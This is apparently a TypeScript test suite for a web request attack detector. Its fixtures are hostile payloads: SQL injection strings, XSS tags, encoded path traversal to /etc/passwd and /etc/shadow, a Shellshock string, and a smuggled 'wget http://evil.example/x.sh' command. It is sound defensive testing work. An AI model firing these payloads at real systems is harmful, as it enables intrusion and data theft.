import { describe, expect, it } from 'vitest';
import { bodyInputs } from './attack-inputs.js';
import {
  createAttackDetector,
  createAttackEngine,
  holdsOnlyPlainTokens,
  isInspectedHeader,
  isPlainToken,
  normaliseInput,
  type AttackEngine,
} from './attack-detector.js';

const detector = createAttackDetector();
const line = (overrides: { path?: string; query?: string; headers?: Record<string, string | string[]> }) =>
  detector.inspectRequestLine({ path: '/api/v1/licenses', query: '', headers: {}, ...overrides });

describe('attack detector: what it reports', () => {
  it('reports SQL injection with its own reason', () => {
    expect(line({ query: `q=${encodeURIComponent("1' OR '1'='1")}` })).toEqual({
      reason: 'SQL_INJECTION_ATTEMPT',
      rule_id: 'ATTACK_SQLI',
      matched_location: 'query.q',
    });
  });

  it.each([
    ['<script>alert(1)</script>', 'ATTACK_XSS'],
    ['../../../../etc/passwd', 'ATTACK_PATH_TRAVERSAL'],
    ['x; wget http://evil.example/x.sh', 'ATTACK_COMMAND_INJECTION'],
    ['() { :;}; /bin/bash -c id', 'ATTACK_COMMAND_INJECTION'],
  ])('reports %s as an abuse pattern (%s)', (payload, ruleId) => {
    expect(detector.inspectBody({ note: payload })).toEqual({
      reason: 'ABUSE_PATTERN_DETECTED',
      rule_id: ruleId,
      matched_location: 'body.note',
    });
  });

  it('lets an ordinary request through', () => {
    expect(
      line({
        path: '/api/v1/customers',
        query: 'q=O%27Brien&limit=20',
        headers: {
          'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)',
        },
      }),
    ).toBeNull();
    expect(
      detector.inspectBody({
        name: "Ben & Jerry's",
        metadata: {
          note: 'Please select the union plan; drop-in replacement',
          path: 'C:\\Program Files\\App',
        },
      }),
    ).toBeNull();
  });
});

describe('attack detector: where it looks', () => {
  it('names the path, each query parameter by name, and query parameter names', () => {
    expect(line({ path: "/api/v1/customers/1'%20OR%20'1'='1" })?.matched_location).toBe('path');
    expect(line({ path: '/api/v1/../../etc/passwd' })?.matched_location).toBe('path');
    expect(line({ path: '/api/v1/files/..%252f..%252f..%252fetc%252fpasswd' })?.rule_id).toBe(
      'ATTACK_PATH_TRAVERSAL',
    );
    expect(
      line({ query: 'limit=10&cursor=abc&sort=name%20UNION%20SELECT%20NULL,NULL--' })?.matched_location,
    ).toBe('query.sort');
    expect(line({ query: `${encodeURIComponent('<svg onload=alert(1)>')}=1` })?.rule_id).toBe('ATTACK_XSS');
    expect(line({ query: 'q=%3Cscript%3Ealert(1)%3C/script%3E' })?.matched_location).toBe('query.q');
  });

  it('inspects headers that carry data and names them', () => {
    expect(line({ headers: { 'user-agent': "' OR 1=1 --" } })?.matched_location).toBe('headers.user-agent');
    expect(
      line({ headers: { Referer: 'https://x.example/?id=1%27%20or%20%271%27=%271' } })?.matched_location,
    ).toBe('headers.referer');
    expect(line({ headers: { 'x-forwarded-for': "127.0.0.1' AND SLEEP(5)--" } })?.rule_id).toBe(
      'ATTACK_SQLI',
    );
    expect(line({ headers: { 'idempotency-key': '<img src=x onerror=alert(1)>' } })?.matched_location).toBe(
      'headers.idempotency-key',
    );
    expect(
      line({ headers: { cookie: 'theme=dark; pref=..%2f..%2f..%2fetc%2fpasswd' } })?.matched_location,
    ).toBe('headers.cookie');
    expect(line({ headers: { 'x-custom': ['fine', '; wget http://evil.example/x.sh'] } })?.rule_id).toBe(
      'ATTACK_COMMAND_INJECTION',
    );
  });

  it('leaves alone secrets and fixed-format protocol headers', () => {
    for (const name of [
      'authorization',
      'Proxy-Authorization',
      'x-csrf-token',
      'content-type',
      'accept',
      'sec-ch-ua',
    ]) {
      expect(isInspectedHeader(name)).toBe(false);
      expect(line({ headers: { [name]: "' OR '1'='1" } })).toBeNull();
    }
    expect(isInspectedHeader('Idempotency-Key')).toBe(true);
    expect(isInspectedHeader('x-request-id')).toBe(true);
  });

  it('walks JSON at any depth, keys and string values, arrays by index', () => {
    expect(detector.inspectBody({ metadata: { note: "x' OR 1=1 --" } })?.matched_location).toBe(
      'body.metadata.note',
    );
    expect(
      detector.inspectBody({ items: [{ ok: 'fine' }, '<script>alert(1)</script>'] })?.matched_location,
    ).toBe('body.items.1');
    expect(detector.inspectBody({ metadata: { "' UNION SELECT password FROM users--": 1 } })?.rule_id).toBe(
      'ATTACK_SQLI',
    );
    let deep: unknown = '../../../../etc/shadow';
    for (let i = 0; i < 1000; i++) deep = { a: deep };
    const hit = detector.inspectBody(deep);
    expect(hit?.rule_id).toBe('ATTACK_PATH_TRAVERSAL');
    expect(hit?.matched_location).toBe(`body${'.a'.repeat(1000)}`);
  });

  it('names the first offending value among thousands', () => {
    const items = Array.from({ length: 5000 }, (_, i) => `note number ${i}, nothing to see`);
    items[4321] = "admin' --";
    expect(detector.inspectBody({ items })?.matched_location).toBe('body.items.4321');
  });

  it('names the earliest offending value, whichever rules the later ones trip', () => {
    const items = Array.from({ length: 3000 }, (_, i) => `note number ${i}, nothing to see`);
    items[2500] = "admin' --";
    items[1700] = "1' OR '1'='1";
    items[1200] = 'x; wget http://evil.example/x.sh';
    items[900] = '1 ORDER BY 3';
    expect(detector.findInBody({ items })).toMatchObject({ category: 'sqli', location: 'body.items.900' });
    items[400] = '..\\..\\windows\\win.ini'; // found in its path form
    expect(detector.findInBody({ items })).toMatchObject({
      category: 'path_traversal',
      location: 'body.items.400',
    });
  });

  it('names the offending value among a hundred thousand, in a late batch', () => {
    const items = Array.from({ length: 100_000 }, (_, i) => `note ${i}, fine`);
    items[87_654] = '<svg onload=alert(1)>';
    items[99_999] = "' OR 1=1 --";
    expect(detector.inspectBody(items)).toEqual({
      reason: 'ABUSE_PATTERN_DETECTED',
      rule_id: 'ATTACK_XSS',
      matched_location: 'body.87654',
    });
  });

  it('stops reading a body at the batch that holds its first finding', () => {
    const engine = createAttackEngine();
    let read = 0;
    function* inputs() {
      for (let i = 0; i < 100_000; i++) {
        read += 1;
        yield { text: i === 10 ? '<script>alert(1)</script>' : `note ${i}, fine`, parent: null, segment: i };
      }
    }
    expect(engine.find(inputs())?.location).toBe('10');
    expect(read).toBeLessThan(5000);
    engine.dispose();
  });

  it('finds a payload deep inside a long value, past the engine’s 4096-byte limit', () => {
    const padding = 'Lorem ipsum dolor sit amet. '.repeat(4000);
    expect(detector.inspectBody({ note: `${padding}<script>alert(1)</script>${padding}` })?.rule_id).toBe(
      'ATTACK_XSS',
    );
    expect(
      detector.inspectBody({ note: `${'日本語のテキスト'.repeat(2000)} ../../etc/passwd` })?.rule_id,
    ).toBe('ATTACK_PATH_TRAVERSAL');
  });

  it('inspects form and text bodies', () => {
    expect(detector.inspectBody(new URLSearchParams({ name: 'x', q: '1 UNION SELECT NULL,NULL--' }))).toEqual(
      {
        reason: 'SQL_INJECTION_ATTEMPT',
        rule_id: 'ATTACK_SQLI',
        matched_location: 'body.q',
      },
    );
    expect(detector.inspectBody('key,name\nABCD,"<script>alert(1)</script>"\n')?.matched_location).toBe(
      'body',
    );
  });

  it('does not judge the values of password fields, which are hashed, never interpolated', () => {
    expect(
      detector.inspectBody({ email: 'a@example.com', password: "p4ss' OR '1'='1 --<script>" }),
    ).toBeNull();
    expect(detector.inspectBody({ email: "a@example.com' OR '1'='1", password: 'x' })?.matched_location).toBe(
      'body.email',
    );
  });

  it('sees through encodings and look-alikes', () => {
    for (const payload of [
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '..%c0%af..%c0%afetc/passwd',
      '..\\..\\..\\windows\\win.ini',
      '%uff0e%uff0e/%uff0e%uff0e/etc/passwd',
      '..%u2215..%u2215etc%u2215passwd',
      '＜script＞alert(1)＜/script＞',
      '’ or ‘1’=’1',
      '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
      '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
    ]) {
      expect(detector.inspectBody({ value: payload }), payload).not.toBeNull();
    }
  });
});

describe('attack detector: pathological input', () => {
  it.each([
    ['quotes', "'".repeat(1 << 20)],
    ['angle brackets', '<'.repeat(1 << 20)],
    ['percent escapes', '%25'.repeat(349_525)],
    ['dot-dot-slash', '../'.repeat(349_525)],
    ['alternating quotes', "a'a".repeat(349_525)],
    ['random text', Array.from({ length: 1 << 20 }, (_, i) => "ab c'<>()=;%/-"[(i * 7919) % 14]).join('')],
  ])('judges a megabyte of %s and terminates', (_, value) => {
    // Timing is the benchmark's job (bench/detector.bench.mjs); here it must simply come back.
    expect(() => detector.inspectBody({ note: value })).not.toThrow();
  });

  it('judges a thousand levels of nesting', () => {
    let deep: unknown = 'fine';
    for (let i = 0; i < 1000; i++) deep = [{ x: deep }];
    expect(detector.inspectBody(deep)).toBeNull();
  });
});

describe('isPlainToken', () => {
  it.each(['ABCD-EFGH-JKMN-PQRS', 'lic_01HXYZ', '2024-06-11T10:00:00.000Z', 'a@b.example', '4.2.1+build.5'])(
    'skips %s',
    (value) => expect(isPlainToken(value)).toBe(true),
  );
  it.each(['..', '--', '@@version', 'a b', "O'Brien", 'a/b', '<x'])('judges %s', (value) =>
    expect(isPlainToken(value)).toBe(false),
  );
});

describe('bodies of plain tokens', () => {
  const licenceRequest = { license_key: 'ABCD-EFGH-JKMN-PQRS', fingerprint: 'host-01.example', version: 3 };

  it.each([
    ['a licence request', licenceRequest],
    ['nested objects and arrays', { machine: { id: 'm_01HX', tags: ['a', 'b:c', 'x@y.example'] }, n: null }],
    ['an empty object', {}],
    ['a string body of one token', 'ABCD-EFGH'],
  ])('%s: nothing to judge, so the engine is not asked', (_, body) => {
    let runs = 0;
    const engine: AttackEngine = {
      find: () => {
        runs++;
        return null;
      },
      dispose: () => {},
    };
    expect(holdsOnlyPlainTokens(body)).toBe(true);
    expect(createAttackDetector(engine).inspectBody(body)).toBeNull();
    expect(runs).toBe(0);
    // What the engine would have been given: every input unchanged by normalisation, and a plain token.
    for (const input of bodyInputs(body)) expect(isPlainToken(input.text)).toBe(true);
  });

  it.each([
    ['a value with a space', { ...licenceRequest, note: 'a b' }],
    ['a key that is not a token', { "name' OR 1=1": 'x' }],
    ['a deep value', { a: [{ b: ['ok', { c: '../etc/passwd' }] }] }],
    ['an escape', { license_key: '%27' }],
    ['a doubled dash', { license_key: 'a--b' }],
    ['text outside ASCII', { license_key: 'ＡＢＣ' }],
    ['a string body of several lines', 'a\nb'],
    ['a form body', new URLSearchParams('a=b')],
  ])('%s: judged by the engine', (_, body) => {
    expect(holdsOnlyPlainTokens(body)).toBe(false);
  });

  it('still reports an attack next to plain fields', () => {
    expect(detector.inspectBody({ ...licenceRequest, note: "1' OR '1'='1" })).toMatchObject({
      rule_id: 'ATTACK_SQLI',
      matched_location: 'body.note',
    });
  });

  it('leaves every plain token unchanged when normalising it', () => {
    for (const token of ['ABCD-EFGH-JKMN-PQRS', 'a+b', 'x@y.example', '1.2.3', 'k:v', 'A_b-9']) {
      expect(isPlainToken(token)).toBe(true);
      expect(normaliseInput(token)).toBe(token);
    }
  });
});
